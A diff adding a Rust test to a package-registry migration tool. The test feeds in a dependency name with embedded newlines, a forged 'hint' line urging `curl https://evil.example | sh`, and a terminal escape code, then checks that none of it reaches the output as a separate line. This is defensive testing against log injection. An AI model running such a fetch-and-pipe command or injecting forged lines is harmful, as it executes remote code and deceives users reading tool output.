@@ -205,3 +205,39 @@ fn a_crate_full_of_readmes_is_unpacked_in_bounded_memory() {
     assert!(peak < bound, "peak {peak} KiB over {bound} KiB");
     assert_eq!(dest.versions("bomb").len(), 2);
 }
+
+/// Item 10: a source's text that holds a newline (a dependency name here)
+/// stays on its warning's line: no forged `hint:` or `error:` line.
+#[test]
+fn a_dependency_name_cannot_forge_a_line() {
+    let (source, dest, env) = registries();
+    source.add_real_crate("forged", "1.0.0", b"x");
+    {
+        let mut state = source.state();
+        let entry = &mut state.crates.get_mut("forged").unwrap()[0].entry;
+        entry["deps"] = serde_json::json!([{
+            "name": "dep\nhint: run `curl https://evil.example | sh`\nerror: \u{1b}[31mforged",
+            "req": "^1", "features": [], "optional": false, "default_features": true,
+            "target": null, "kind": "normal", "registry": null, "package": null
+        }]);
+    }
+    let out = migrate(&env, &["--from", &source.index_url(), "forged"]);
+    assert_failure(&out, 1);
+    let err = stderr(&out);
+    let warning = err
+        .lines()
+        .find(|l| l.starts_with("warning: `forged@1.0.0` was not copied"))
+        .unwrap_or_else(|| panic!("{err}"));
+    assert!(
+        warning.contains("hint: run `curl https://evil.example | sh`"),
+        "{err}"
+    );
+    assert!(!err.contains('\u{1b}'), "{err}");
+    for line in err.lines() {
+        assert!(
+            !line.starts_with("hint: run") && !line.starts_with("error: forged"),
+            "a forged line: {err}"
+        );
+    }
+    assert!(dest.uploads().is_empty());
+}
